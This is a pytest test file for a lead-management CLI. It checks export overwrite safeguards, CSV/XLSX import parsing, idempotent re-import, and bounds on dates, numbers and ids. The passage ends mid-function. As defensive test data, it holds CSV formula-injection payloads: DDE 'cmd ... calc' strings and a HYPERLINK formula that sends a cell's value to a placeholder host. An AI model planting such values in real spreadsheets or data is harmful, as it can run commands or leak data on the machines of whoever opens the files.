"""Issue #14, "nothing lost, nothing leaked": the hazards of import and
export, and the input values that break storage. Each case is the issue's
own, with both sides of its boundary."""

import csv
import datetime as dt
import io
import json
import os
import sqlite3
from pathlib import Path

import click
import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlite_utils import Database

from leadcycle import LeadBook
from leadcycle.cli import cli
from leadcycle.io import from_spreadsheet_text, row_key, spreadsheet_text
from leadcycle.storage import core_migrations

NOW = "2026-03-05T10:00"
HEADER = "姓名,性别,电话,需求,来访日期,置业顾问,购买力与首付能力"


@pytest.fixture
def office(run):
    assert run("init", "--industry", "realestate", "--industry", "machinery").exit_code == 0
    for args in (("李娜",), ("王强",), ("陈经理", "--manager")):
        assert run("agent", "add", *args).exit_code == 0
    return run


def one_line_error(result, code=1):
    """The house rule: a non-zero exit, no traceback, one line."""
    assert result.exit_code == code, result.output
    assert isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.output
    lines = [line for line in result.output.strip().splitlines() if line.startswith("Error")]
    assert len(lines) == 1, result.output
    return lines[0]


def db_counts(db_path):
    conn = sqlite3.connect(db_path)
    try:
        return tuple(conn.execute(f"SELECT count(*) FROM {t}").fetchone()[0] for t in ("leads", "events"))
    finally:
        conn.close()


def events_of(db_path, name):
    book = LeadBook.open(db_path, dt.datetime(2026, 3, 5, 10))
    try:
        lead_id = next(r["id"] for r in book.list() if r["name"] == name)
        return [(e.kind, e.at.isoformat(), e.data.get("changes")) for e in book.record(lead_id).events]
    finally:
        book.close()


def read_rejects(path):
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))[1:]


def imported(result):
    assert isinstance(result.exception, (SystemExit, type(None))), result.exception
    return json.loads(result.output)


# ============================================================ export: data loss


@pytest.fixture
def with_leads(office):
    added = office("lead", "add", "--industry", "realestate", "--name", "张伟", "--gender", "M",
                   "--phone", "13800138000", "--need", "三房", "--agent", "李娜", now=NOW)
    assert added.exit_code == 0, added.output
    return office


@pytest.mark.parametrize("target", ["{db}", "./leads.db", "{db}-wal", "{db}-shm", "{db}-journal",
                                    "link.db", "hard.db", "sub/../leads.db"])
def test_export_refuses_the_open_database_however_it_is_spelled(with_leads, db_path, tmp_path, target):
    os.symlink(db_path, tmp_path / "link.db")
    os.link(db_path, tmp_path / "hard.db")
    (tmp_path / "sub").mkdir()
    before = db_counts(db_path)
    for force in ([], ["--force"]):  # not even with --force
        line = one_line_error(with_leads("export", "--unmask", "-o", target.format(db=db_path), *force, now=NOW))
        assert "is the open database" in line
    assert db_counts(db_path) == before == (1, 1)


def test_export_with_the_default_database_name_keeps_it(with_leads, runner, tmp_path):
    # the run fixture's database is ./leads.db, as LEADCYCLE_DB points there
    result = runner.invoke(cli, ["export", "-o", "leads.db"])
    assert "is the open database" in one_line_error(result)
    assert db_counts(str(tmp_path / "leads.db")) == (1, 1)


def test_export_replaces_an_existing_file_only_with_force(with_leads, tmp_path):
    out = tmp_path / "a.csv"
    out.write_text("keep me", encoding="utf-8")
    line = one_line_error(with_leads("export", "-o", str(out), now=NOW))
    assert "exists; give --force" in line and out.read_text(encoding="utf-8") == "keep me"
    assert with_leads("export", "-o", str(out), "--force", now=NOW).exit_code == 0
    assert "张伟" in out.read_text(encoding="utf-8-sig")
    # a new file needs no --force
    assert with_leads("export", "-o", str(tmp_path / "b.csv"), now=NOW).exit_code == 0


#: every other command that writes a file the operator names (the export's
#: siblings): its arguments with the path as {out}
WRITERS = {
    "report html": ("report", "html", "-o", "{out}"),
    "report daily": ("report", "daily", "--format", "html", "-o", "{out}"),
    "report daily xlsx": ("report", "daily", "--format", "xlsx", "-o", "{out}"),
    "notify ics": ("notify", "ics", "--agent", "李娜", "-o", "{out}"),
    "serve --metadata": ("serve", "--metadata", "{out}.json", "--snapshot", "{out}"),
    "serve --metadata's json": ("serve", "--metadata", "{out}"),
    "export --history": ("export", "--history", "--unmask", "--format", "jsonl", "-o", "{out}"),
}


def _database_intact(db_path):
    assert db_counts(db_path) == (1, 1)
    book = LeadBook.open(db_path)
    try:
        assert book.verify().ok
    finally:
        book.close()


@pytest.mark.parametrize("command", WRITERS)
@pytest.mark.parametrize("target", ["{db}", "{db}-wal", "link.db"])
def test_no_command_writes_a_file_over_the_open_database(with_leads, db_path, tmp_path, command, target):
    """The export's hazard in every command that writes a file: before,
    ``report html -o leads.db`` wrote its HTML over the database, and
    ``serve --snapshot leads.db`` deleted it. Not even with --force."""
    os.symlink(db_path, tmp_path / "link.db")
    out = target.format(db=db_path)
    if command == "serve --metadata's json":  # the database as the metadata file itself
        args = ("serve", "--metadata", out, "--snapshot", str(tmp_path / "snap.db"))
    else:
        args = tuple(a.format(out=out) for a in WRITERS[command])
    for force in ([], ["--force"]):
        line = one_line_error(with_leads(*args, *force, now=NOW))
        assert "is the open database" in line, line
    _database_intact(db_path)
    assert not list(tmp_path.glob(".*.part")) and not (tmp_path / "snap.db").exists()


def test_serve_metadata_beside_the_database_keeps_it(with_leads, runner, tmp_path, db_path):
    # leads.json's snapshot is leads.db: the database itself (it used to be deleted)
    line = one_line_error(with_leads("serve", "--metadata", str(tmp_path / "leads.json"), now=NOW))
    assert "leads.db is the open database" in line and "--metadata" in line
    _database_intact(db_path)
    assert not (tmp_path / "leads.json").exists()


@pytest.mark.parametrize("command", ["report html", "report daily", "report daily xlsx", "notify ics"])
def test_a_report_replaces_an_existing_file_only_with_force(with_leads, tmp_path, command):
    out = tmp_path / ("out.xlsx" if "xlsx" in command else "out.txt")
    out.write_text("keep me", encoding="utf-8")
    args = tuple(a.format(out=out) for a in WRITERS[command])
    line = one_line_error(with_leads(*args, now=NOW))
    assert "exists; give --force to replace it, or another --output" in line
    assert out.read_text(encoding="utf-8") == "keep me"
    done = with_leads(*args, "--force", now=NOW)
    assert done.exit_code == 0, done.output
    assert out.read_bytes() != b"keep me" and not list(tmp_path.glob(".*.part"))


def test_serve_snapshot_replaces_a_file_only_with_force(with_leads, tmp_path):
    snap, meta = tmp_path / "snap.db", tmp_path / "snap.json"
    snap.write_text("keep me", encoding="utf-8")
    line = one_line_error(with_leads("serve", "--metadata", str(meta), "--snapshot", str(snap), now=NOW))
    assert "snap.db exists; give --force to replace it, or another --snapshot" in line
    assert snap.read_text(encoding="utf-8") == "keep me" and not meta.exists()
    done = with_leads("serve", "--metadata", str(meta), "--snapshot", str(snap), "--force", now=NOW)
    assert done.exit_code == 0, done.output
    assert sqlite3.connect(snap).execute("SELECT count(*) FROM leads").fetchone() == (1,)


def test_the_rejects_file_is_never_the_open_database(tmp_path, runner):
    """``import`` rewrites ``FILE.rejects.csv``: a database of that name is refused, not removed."""
    register = tmp_path / "r.csv"
    register.write_text(HEADER + "\n张伟,男,13800138000,三房,2026-03-01,李娜,A\n", encoding="utf-8")
    db = str(tmp_path / "r.csv.rejects.csv")
    assert runner.invoke(cli, ["--db", db, "init", "--industry", "realestate"]).exit_code == 0
    assert runner.invoke(cli, ["--db", db, "agent", "add", "李娜"]).exit_code == 0
    result = runner.invoke(cli, ["--db", db, "--now", NOW, "import", str(register), "--industry", "realestate"])
    assert "would be the open database" in one_line_error(result)
    assert sqlite3.connect(db).execute("SELECT count(*) FROM agents").fetchone() == (1,)


def test_export_to_a_missing_folder_is_one_line(with_leads):
    for fmt in ("csv", "xlsx", "json"):
        line = one_line_error(with_leads("export", "-o", f"/nonexistent/x.{fmt}", now=NOW))
        assert "cannot write /nonexistent/x." in line and "no folder" in line


def test_export_that_matches_nothing_writes_nothing(with_leads, tmp_path):
    for fmt in ("csv", "xlsx", "json"):
        out = tmp_path / f"d.{fmt}"
        line = one_line_error(with_leads("export", "--grade", "D", "-o", str(out), now=NOW))
        assert "no leads match --grade D; nothing written" in line
        assert not out.exists()
    stdout = with_leads("export", "--owner", "王强", now=NOW)
    assert "no leads match --owner 王强" in one_line_error(stdout) and "姓名" not in stdout.output
    assert not [p for p in os.listdir(tmp_path) if p.endswith(".part")]  # no temporary file left


def test_export_grade_must_be_on_the_industrys_scale(with_leads):
    line = one_line_error(with_leads("export", "--industry", "realestate", "--grade", "Z", now=NOW))
    assert line.endswith("grade 'Z' is not on the scale of realestate: use one of A, B, C, D")
    # on the scale, in either case: a grade nobody has yet is "no leads match"
    assert "no leads match --industry realestate --grade A" in one_line_error(
        with_leads("export", "--industry", "realestate", "--grade", "a", now=NOW))


# ====================================================== export: CSV injection


FORMULAS = {"name": ["-张伟", "@李", "=HYPERLINK(\"http://x\"&E2)", "'王"],
            "need": ["=1+1", "+86 三房", "-2+3+cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"]}


@pytest.fixture
def formula_office(office):
    phones = iter(f"1380013800{i}" for i in range(10))
    for name, need in zip(FORMULAS["name"], FORMULAS["need"]):
        added = office("lead", "add", "--industry", "realestate", f"--name={name}", "--gender", "F",
                       "--phone", next(phones), f"--need={need}", "--agent", "李娜", now=NOW)
        assert added.exit_code == 0, added.output
    return office


def test_spreadsheet_text_round_trips():
    for text in ["=1+1", "-张伟", "@李", "+86", "\tx", "\rx", "'", "''", "'=1", "'abc", "abc", "", "1-2"]:
        assert from_spreadsheet_text(spreadsheet_text(text)) == text
        assert spreadsheet_text(text)[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert spreadsheet_text(-5) == -5  # numbers are numbers, not formulas


def test_csv_export_writes_formula_text_as_text_and_imports_back(formula_office, runner, tmp_path):
    out = tmp_path / "all.csv"
    assert formula_office("--as", "陈经理", "export", "--industry", "realestate", "--unmask", "-o", str(out), now=NOW).exit_code == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert [r["name"] for r in rows] == ["'-张伟", "'@李", "'=HYPERLINK(\"http://x\"&E2)", "''王"]
    assert [r["need"] for r in rows] == ["'=1+1", "'+86 三房", "'-2+3+cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"]
    _imports_back(runner, tmp_path, out)
    # list --csv is a spreadsheet file too
    listed = list(csv.DictReader(io.StringIO(formula_office("list", "--csv", now=NOW).output)))
    assert [r["name"] for r in listed] == ["'-张伟", "'@李", "'=HYPERLINK(\"http://x\"&E2)", "''王"]
    assert listed[0]["score"] == "0"


def test_xlsx_export_writes_formula_text_as_string_cells(formula_office, runner, tmp_path):
    out = tmp_path / "all.xlsx"
    assert formula_office("--as", "陈经理", "export", "--industry", "realestate", "--unmask", "-o", str(out), now=NOW).exit_code == 0
    ws = openpyxl.load_workbook(out).worksheets[0]
    cells = {c.value: c for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str)}
    for text in FORMULAS["name"][:3] + FORMULAS["need"]:
        assert cells[text].data_type == "s", text  # never a formula
        assert cells[text].quotePrefix, text  # and Excel keeps it text when edited
    _imports_back(runner, tmp_path, out)


def _imports_back(runner, tmp_path, out):
    other = str(tmp_path / "other.db")
    runner.invoke(cli, ["--db", other, "init", "--industry", "realestate"])
    result = runner.invoke(cli, ["--db", other, "--now", NOW, "import", str(out), "--add-agents", "--json"])
    assert result.exit_code == 0, result.output
    book = LeadBook.open(other, dt.datetime(2026, 3, 5, 10))
    try:
        got = [(r["name"], r["need"]) for r in book.list()]
    finally:
        book.close()
    assert got == list(zip(FORMULAS["name"], FORMULAS["need"]))


def test_rejects_file_writes_formula_cells_as_text(office, tmp_path):
    path = tmp_path / "r.csv"
    path.write_text(HEADER + "\n=cmd|' /C calc'!A0,男,13800138000,三房,2026-03-01,李娜,A\n"
                    "张伟,=1+1,13800138001,三房,2026-03-01,李娜,A\n", encoding="utf-8")
    assert office("import", str(path), "--industry", "realestate", now=NOW).exit_code == 1
    raw = Path(str(path) + ".rejects.csv").read_text(encoding="utf-8-sig")
    assert "\n=" not in raw and ",=" not in raw
    rows = read_rejects(str(path) + ".rejects.csv")
    assert rows[0][1].startswith("gender '=1+1'") and rows[0][3] == "'=1+1"


# ============================================================ import: structure


def test_unterminated_quote_refuses_the_file_naming_the_row(office, db_path, tmp_path):
    path = tmp_path / "q.csv"
    path.write_text(HEADER + '\n张伟,男,13800138000,"三房,2026-03-01,李娜,A\n'
                    "王芳,女,13900139000,两房,2026-03-02,王强,B\n", encoding="utf-8")
    line = one_line_error(office("import", str(path), "--industry", "realestate", now=NOW))
    assert "q.csv row 2: a quote opens a cell and is never closed" in line and "nothing was imported" in line
    assert db_counts(db_path) == (0, 0)


def test_text_after_a_closing_quote_refuses_the_file(office, db_path, tmp_path):
    path = tmp_path / "q.csv"
    path.write_text(HEADER + '\n张伟,男,13800138000,三房,2026-03-01,李娜,A\n'
                    '王芳,女,13900139000,"两房"大,2026-03-02,王强,B\n', encoding="utf-8")
    line = one_line_error(office("import", str(path), "--industry", "realestate", now=NOW))
    assert "row 3: text follows the closing quote" in line
    assert db_counts(db_path) == (0, 0)


def test_rows_swallowed_by_a_late_quote_are_rejected(office, db_path, tmp_path):
    path = tmp_path / "q.csv"
    path.write_text(HEADER + '\n张伟,男,13800138000,"三房,2026-03-01,李娜,A\n'
                    '王芳,女,13900139000,两房,2026-03-02,王强,B\n'
                    '刘洋,男,13700137000,四房",2026-03-03,李娜,C\n'
                    "陈静,女,13600136000,两房,2026-03-04,王强,B\n", encoding="utf-8")
    out = imported(office("import", str(path), "--industry", "realestate", "--json", now=NOW))
    assert (out["imported"], out["rejected"]) == (1, 1)
    [reject] = read_rejects(str(path) + ".rejects.csv")
    assert reject[0] == "2" and "look like whole rows" in reject[1]


def test_a_line_break_in_a_cell_keeps_spreadsheet_row_numbers(office, tmp_path):
    path = tmp_path / "n.csv"
    path.write_text(HEADER + ",备注\n"
                    '张伟,男,13800138000,三房,2026-03-01,李娜,A,"约周末看房\n带父母\n再议"\n'
                    "王芳,女,123,两房,2026-03-02,王强,B,\n"
                    '刘洋,男,13700137000,"四房\r\n140㎡",2026-03-03,李娜,Z,\n', encoding="utf-8")
    out = imported(office("import", str(path), "--industry", "realestate", "--json", now=NOW))
    assert (out["imported"], out["rejected"]) == (1, 2)
    rejects = read_rejects(str(path) + ".rejects.csv")
    assert [r[0] for r in rejects] == ["3", "4"]  # not the physical lines 5 and 6
    assert rejects[0][1].startswith("phone '123'") and rejects[1][1].startswith("buying_power: 'Z'")


def test_cells_past_the_header_are_a_rejected_row(office, tmp_path):
    path = tmp_path / "x.csv"
    path.write_text(HEADER + "\n张伟,男,13800138000,三房,120㎡,2026-03-01,李娜,A\n"
                    "王芳,女,13900139000,两房,2026-03-02,王强,B,,\n", encoding="utf-8")
    out = imported(office("import", str(path), "--industry", "realestate", "--json", now=NOW))
    assert (out["imported"], out["rejected"]) == (1, 1)  # trailing empty cells are fine
    [reject] = read_rejects(str(path) + ".rejects.csv")
    assert reject[0] == "2" and "8 cells but the header names 7 columns" in reject[1]


def test_gbk_file_whose_first_megabyte_is_ascii(office, db_path, tmp_path):
    path = tmp_path / "gbk.csv"
    text = ("name,gender,phone,need,note\nZhang Wei,M,13800138000,3 rooms,\n"
            + ",,,,\n" * 300_000  # 1.5 MB of empty rows (skipped)
            + "王芳,女,13900139000,两房,约周末看房\n")
    path.write_bytes(text.encode("gbk"))
    result = office("import", str(path), "--industry", "realestate", "--json", now=NOW)
    out = imported(result)
    assert result.exit_code == 0 and out["encoding"] == "gb18030" and out["imported"] == 2
    assert set(LeadBook.open(db_path).store.conn.execute("SELECT name FROM leads").fetchall()) == {
        ("Zhang Wei",), ("王芳",)}
    plain = office("import", str(path), "--industry", "realestate", now=NOW)
    assert "read as: gb18030" in plain.output


def test_utf8_with_bom_and_a_file_neither_utf8_nor_gb18030(office, db_path, tmp_path):
    path = tmp_path / "bom.csv"
    path.write_bytes("姓名,性别,电话,需求\n张伟,男,13800138000,三房\n".encode("utf-8-sig"))
    assert imported(office("import", str(path), "--industry", "realestate", "--json", now=NOW))[
        "encoding"] == "utf-8-sig"
    bad = tmp_path / "bad.csv"
    bad.write_bytes(b"name,gender,phone,need\n\xff\xfe,M,13800138001,x\n")
    assert "neither UTF-8 nor GB18030" in one_line_error(
        office("import", str(bad), "--industry", "realestate", now=NOW))
    assert db_counts(db_path) == (1, 1)


@pytest.mark.parametrize("length, ok", [(32_767, True), (32_768, False), (131_073, False)])
def test_a_cell_over_excels_limit_is_a_rejected_row(office, db_path, tmp_path, length, ok):
    path = tmp_path / "long.csv"
    path.write_text("姓名,性别,电话,需求,备注\n"
                    f"张伟,男,13800138000,三房,{'长' * length}\n王芳,女,13900139000,两房,\n", encoding="utf-8")
    out = imported(office("import", str(path), "--industry", "realestate", "--json", now=NOW))
    assert (out["imported"], out["rejected"]) == ((2, 0) if ok else (1, 1))
    if not ok:
        [reject] = read_rejects(str(path) + ".rejects.csv")
        assert reject[0] == "2" and f"备注 holds {length:,} characters" in reject[1]
        # the same on every rerun: nothing half-done, nothing doubled
        again = imported(office("import", str(path), "--industry", "realestate", "--json", now=NOW))
        assert (again["already_imported"], again["rejected"]) == (1, 1)


# ====================================================== import: idempotency


REGISTER = ["张伟,男,13800138000,三房,2026/3/1,李娜,B",
            "王芳,女,13900139000,两房,2026-03-01,王强,C",
            "张伟,男,13800138000,三房,2026/3/3,李娜,A",  # a return visit, rated higher
            "刘洋,男,13700137000,四房,46084,李娜,B",
            "王芳,女,13900139000,两房,2026-03-04,王强,B"]


def _resave(path, lines, header=HEADER, newline="\r\n", bom=True):
    path.write_bytes((("\ufeff" if bom else "") + newline.join([header, *lines]) + newline).encode("utf-8"))
    return str(path)


def test_register_saved_again_by_excel_adds_nothing(office, db_path, tmp_path):
    first = _resave(tmp_path / "a.csv", REGISTER, newline="\n", bom=False)
    out = imported(office("import", first, "--industry", "realestate", "--json", now=NOW))
    assert (out["imported"], out["merged"], out["rejected"]) == (3, 2, 0)
    before = db_counts(db_path)
    # CRLF and a BOM, re-ordered, dates re-typed as Excel shows them, phones spaced
    again = [line.replace("2026/3/1", "2026-03-01").replace("13900139000", "139 0013 9000")
             for line in reversed(REGISTER)]
    result = office("import", _resave(tmp_path / "b.csv", again), "--industry", "realestate", "--json",
                    now="2026-03-09T10:00")
    out = imported(result)
    assert result.exit_code == 0 and (out["imported"], out["merged"], out["rejected"]) == (0, 0, 0)
    assert out["already_imported"] == 5 and db_counts(db_path) == before


def test_register_converted_to_xlsx_adds_nothing(office, db_path, tmp_path):
    office("import", _resave(tmp_path / "a.csv", REGISTER), "--industry", "realestate", now=NOW)
    before = db_counts(db_path)
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(HEADER.split(","))
    for line in REGISTER:
        cells = line.split(",")
        cells[2] = int(cells[2])  # a phone typed as a number
        day = cells[4]
        cells[4] = (dt.datetime(1899, 12, 30) + dt.timedelta(days=int(day)) if day.isdigit()
                    else dt.datetime.strptime(day.replace("/", "-"), "%Y-%m-%d"))  # a date cell
        ws.append(cells)
    path = tmp_path / "a.xlsx"
    wb.save(path)
    out = imported(office("import", str(path), "--industry", "realestate", "--json", now=NOW))
    assert (out["imported"], out["merged"], out["already_imported"]) == (0, 0, 5)
    assert db_counts(db_path) == before


def test_register_without_dates_imported_again_later_adds_no_visits(office, db_path, tmp_path):
    lines = [",".join(line.split(",")[:4]) for line in REGISTER]
    header = "姓名,性别,电话,需求"
    office("import", _resave(tmp_path / "a.csv", lines, header, "\n", False), "--industry", "realestate",
           "--agent", "李娜", now=NOW)
    before = db_counts(db_path)
    out = imported(office("import", _resave(tmp_path / "b.csv", lines, header), "--industry", "realestate",
                          "--agent", "李娜", "--json", now="2026-03-20T10:00"))
    assert (out["imported"], out["merged"], out["already_imported"]) == (0, 0, 5)
    assert db_counts(db_path) == before


def test_a_changed_row_still_applies(office, db_path, tmp_path):
    office("import", _resave(tmp_path / "a.csv", REGISTER), "--industry", "realestate", now=NOW)
    before = events_of(db_path, "刘洋")
    changed = REGISTER + ["刘洋,男,13700137000,四房,2026-03-05,李娜,B",  # a new visit date
                          "刘洋,男,13700137000,四房,2026-03-05,李娜,A"]  # then a changed attribute
    out = imported(office("import", _resave(tmp_path / "b.csv", changed), "--industry", "realestate",
                          "--json", now=NOW))
    assert (out["already_imported"], out["merged"], out["imported"]) == (5, 2, 0)
    assert events_of(db_path, "刘洋") == before + [
        ("visit", "2026-03-05T00:00:00", None), ("set", "2026-03-05T00:00:00", {"buying_power": "A"})]


def test_the_same_row_twice_in_one_file_is_merged_not_skipped(office, tmp_path):
    path = _resave(tmp_path / "a.csv", [REGISTER[0]] * 3)
    out = imported(office("import", path, "--industry", "realestate", "--json", "--batch-size", "1", now=NOW))
    assert (out["imported"], out["unchanged"], out["already_imported"]) == (1, 2, 0)


def test_row_key_is_the_content():
    base = dict(industry="realestate", phone="13800138000", name="张伟", gender="M", need="三房",
                attributes={"buying_power": "A", "funds": "B"}, registered=dt.datetime(2026, 3, 1),
                agent="李娜", channel="visit", relation=None, note=None)
    key = row_key(**base)
    assert row_key(**{**base, "attributes": {"funds": "B", "buying_power": "A"}}) == key
    for change in ({"registered": dt.datetime(2026, 3, 2)}, {"registered": None}, {"attributes": {}},
                   {"agent": "王强"}, {"phone": "13800138001"}, {"relation": "spouse"}, {"note": "x"}):
        assert row_key(**{**base, **change}) != key, change


def test_migration_replaces_file_row_keys_by_content_keys():
    db = Database(memory=True)
    core_migrations.apply(db, stop_before="m012_import_runs")  # m012 moves them (test_import_ledger.py)
    assert "import_rows" not in db.table_names()
    assert db["import_keys"].columns_dict == {"key": str, "lead_id": int, "outcome": str, "source": str,
                                              "row_no": int, "run": str, "imported_at": str}
    assert db["import_keys"].pks == ["key"]


# ============================================================ import: dates


@pytest.mark.parametrize("cell, reason", [
    ("12345", "visit date 1933-10-18 is before 2000-01-01"),
    ("1999-12-31", "visit date 1999-12-31 is before 2000-01-01"),
    ("2026-03-05 10:01", "is after the clock"),
    ("1e308", "not a date"),
    ("99999999999", "not a date"),
    (None, None),  # the bounds themselves pass
])
def test_visit_dates_must_be_plausible(office, db_path, tmp_path, cell, reason):
    lines = ["张伟,男,13800138000,三房,2000-01-01,李娜,A", "王芳,女,13900139000,两房,2026-03-05 10:00,王强,B"]
    if cell is not None:
        lines.append(f"刘洋,男,13700137000,四房,{cell},李娜,C")
    out = imported(office("import", _resave(tmp_path / "d.csv", lines), "--industry", "realestate", "--json",
                          now=NOW))
    assert out["imported"] == 2
    if reason:
        [reject] = read_rejects(str(tmp_path / "d.csv.rejects.csv"))
        assert reject[0] == "4" and reason in reject[1]


@pytest.mark.parametrize("value, error", [
    ("2026-03-05", None), ("2026-03-06", "is in the future (today is 2026-03-05)"),
    ("1900-01-01", None), ("1899-12-31", "is before 1900-01-01"), ("2099-01-01", "is in the future"),
])
def test_a_birth_date_is_not_in_the_future(with_leads, value, error):
    result = with_leads("lead", "set", "1", "--agent", "李娜", f"birth_date={value}", now=NOW)
    if error is None:
        assert result.exit_code == 0, result.output
    else:
        assert error in one_line_error(result)


@pytest.mark.parametrize("value, ok", [("2100-12-31", True), ("2101-01-01", False), ("2000-01-01", True),
                                       ("1999-12-31", False), ("12", False)])
def test_a_planned_date_is_within_2000_and_2100(office, value, ok):
    """A site deadline plans (``PLAN_MIN``): from 2000-01-01; other dates
    (a birth date, above) from 1900-01-01; every date to 2100-12-31."""
    added = office("lead", "add", "--industry", "machinery", "--name", "赵总", "--gender", "M", "--phone",
                   "13800138000", "--need", "挖掘机", now=NOW)
    assert added.exit_code == 0, added.output
    result = office("lead", "set", "1", "--agent", "李娜", f"site_deadline={value}", now=NOW)
    if ok:
        assert result.exit_code == 0, result.output
    else:
        assert "site_deadline" in one_line_error(result)


# ============================================================ values that break storage


@pytest.mark.parametrize("args", [
    ("lead", "set", "1", "--agent", "李娜", "area=inf"), ("lead", "set", "1", "--agent", "李娜", "area=-Infinity"), ("lead", "set", "1", "--agent", "李娜", "area=nan"),
    ("lead", "set", "1", "--agent", "李娜", "area=1e400"), ("lead", "set", "1", "--agent", "李娜", "age=1e400"),
    ("lead", "set", "1", "--agent", "李娜", "age=99999999999999999999"),
    ("log", "1", "deposit", "--agent", "李娜", "--set", "amount=inf"), ("log", "1", "deposit", "--agent", "李娜", "--set", "amount=NaN"),
    ("settings", "set", "realestate.total_units", "99999999999999999999"),
])
def test_numbers_json_and_sqlite_cannot_hold_are_refused(with_leads, db_path, args):
    before = db_counts(db_path)
    one_line_error(with_leads(*args, now=NOW))
    assert db_counts(db_path) == before
    assert with_leads("show", "1", "--json", now=NOW).exit_code == 0


def test_finite_numbers_pass_and_show_as_json(with_leads):
    assert with_leads("lead", "set", "1", "--agent", "李娜", "area=1e10", "age=0", now=NOW).exit_code == 0
    shown = json.loads(with_leads("show", "1", "--json", now=NOW).output)
    assert "Infinity" not in json.dumps(shown) and "NaN" not in json.dumps(shown)


def test_a_number_from_json_is_checked_too(office, db_path):
    registration = {"industry": "realestate", "name": "赵", "gender": "F", "phone": "13900000001",
                    "need": "两房", "attributes": {"area": 1e400}}
    line = one_line_error(office("lead", "add", "--from-json", "-", input=json.dumps(registration), now=NOW))
    assert "area" in line and "finite" in line
    registration = {**registration, "attributes": {}, "referred_by": 10**20}
    assert "no lead #100000000000000000000" in one_line_error(
        office("lead", "add", "--from-json", "-", input=json.dumps(registration), now=NOW))
    assert db_counts(db_path) == (0, 0)


# ------------------------------------------------------------ ids and batch sizes

BIG = "99999999999999999999"
ID_COMMANDS = {
    ("show",): ("show", BIG),
    ("history",): ("history", BIG),
    ("credit",): ("credit", BIG),
    ("lead", "set"): ("lead", "set", BIG, "funds=A"),
    ("log",): ("log", BIG, "visit"),
    ("claim",): ("claim", BIG, "--agent", "李娜"),
    ("recognize",): ("recognize", BIG, "--agent", "李娜"),
    ("dispute",): ("dispute", BIG, "--claim", "unrecognized", "--agent", "李娜"),
    ("decide",): ("decide", BIG, "upheld", "--reason", "x", "--agent", "陈经理"),
    ("give-up",): ("give-up", BIG, "--reason", "x", "--agent", "李娜"),
    ("reassign",): ("reassign", BIG, "--to", "李娜", "--reason", "complaint", "--agent", "陈经理"),
    ("arbitrate",): ("arbitrate", BIG, "--to", "李娜", "--reason", "x", "--agent", "陈经理"),
    ("advance",): ("advance", BIG, "opportunity"),
    ("approve",): ("approve", BIG, "--agent", "陈经理"),
    ("lift",): ("lift", BIG, "--agent", "陈经理"),
    ("account-manager", "assign"): ("account-manager", "assign", BIG, "李娜", "--by", "陈经理"),
    ("void",): ("void", BIG, "1", "--reason", "wrong entry", "--agent", "李娜"),
    ("revisit", "plan"): ("revisit", "plan", BIG, "--at", "2026-03-10T14:00", "--content", "x", "--purpose", "y",
                          "--agent", "李娜"),
    ("revisit", "appoint"): ("revisit", "appoint", BIG, "--at", "2026-03-10T14:00", "--agent", "李娜"),
    ("revisit", "record"): ("revisit", "record", BIG, "--note", "x", "--agent", "李娜"),
    ("revisit", "report"): ("revisit", "report", BIG, "--note", "x", "--agent", "李娜"),
    ("revisit", "approve"): ("revisit", "approve", BIG, "--opinion", "x", "--agent", "陈经理"),
    ("revisit", "archive"): ("revisit", "archive", BIG, "--agent", "李娜"),
}


def _commands_taking_a_lead(group, ctx, path=()):
    for name in group.list_commands(ctx):
        command = group.get_command(ctx, name)
        if isinstance(command, click.Group):
            yield from _commands_taking_a_lead(command, ctx, path + (name,))
        elif any(isinstance(p, click.Argument) and p.name in ("lead_id", "lead") for p in command.params):
            yield path + (name,)


def test_every_command_taking_a_lead_id_is_covered(office):
    with click.Context(cli) as ctx:
        found = set(_commands_taking_a_lead(cli, ctx))
    assert found == set(ID_COMMANDS)


@pytest.mark.parametrize("path", sorted(ID_COMMANDS))
def test_lead_ids_past_64_bits_are_one_line(office, path):
    result = office(*ID_COMMANDS[path], now=NOW)
    assert "is not a lead id: lead ids run from 1 to 9223372036854775807" in one_line_error(result, code=2)
    for bad in ("0", "#x"):
        args = [bad if a == BIG else a for a in ID_COMMANDS[path]]
        one_line_error(office(*args, now=NOW), code=2)


def test_the_largest_lead_id_is_merely_unknown(office):
    assert "no lead #9223372036854775807" in one_line_error(office("show", "9223372036854775807"))
    line = one_line_error(office("lead", "add", "--industry", "realestate", "--name", "张伟", "--gender", "M",
                                 "--phone", "13800138000", "--need", "三房", "--referred-by", BIG), code=2)
    assert "'--referred-by'" in line


@pytest.mark.parametrize("command", [("rescore",), ("import", "x.csv", "--industry", "realestate")])
def test_batch_sizes_are_bounded(office, tmp_path, command):
    (tmp_path / "x.csv").write_text("姓名,性别,电话,需求\n张伟,男,13800138000,三房\n", encoding="utf-8")
    for bad in ("1e20", BIG, "100001", "0"):
        one_line_error(office(*command, "--batch-size", bad, now=NOW), code=2)
    assert office(*command, "--batch-size", "100000", now=NOW).exit_code == 0
    listed = office("list", "--limit", BIG, "--json", now=NOW)
    assert listed.exit_code == 0 and len(json.loads(listed.output)) == (command[0] == "import")


# ============================================================ fuzz


_TEXT = st.sampled_from(["张伟", "王芳", "Zhang Wei", "", " ", "男", "女", "M", "x", "三房", "=1+1", "'=1", "-",
                         "@李", "\t", "13800138000", "138 0013 8000", "+86 139-0013-9000", "010-88886666",
                         "12345", "2026/3/1", "2026-03-05", "2026年3月4日", "46084", "46084.5", "0", "-1",
                         "1e308", "1e400", "inf", "-inf", "nan", "9" * 25, "2026/13/45", "1899-12-30",
                         "2099-01-01", "2026-03-05 10:00", "2026-03-05T25:00", "A", "B", "Z", "李娜", "钱七",
                         "配偶", "来电", "是", '"', '""', 'a"b', "a,b", "a\nb", "a\r\nb", "\r", "\x00"])
_CELL = st.one_of(_TEXT, st.text(max_size=8), st.builds(lambda c, n: c * n, st.sampled_from("长x,\"\n"),
                                                          st.sampled_from([1, 100, 32_768, 140_000])))
_HEADERS = ["姓名", "性别", "电话", "需求", "来访日期", "置业顾问", "购买力与首付能力", "area", "关系", "备注"]


@st.composite
def _csv_bytes(draw):
    if draw(st.integers(0, 9)) == 0:
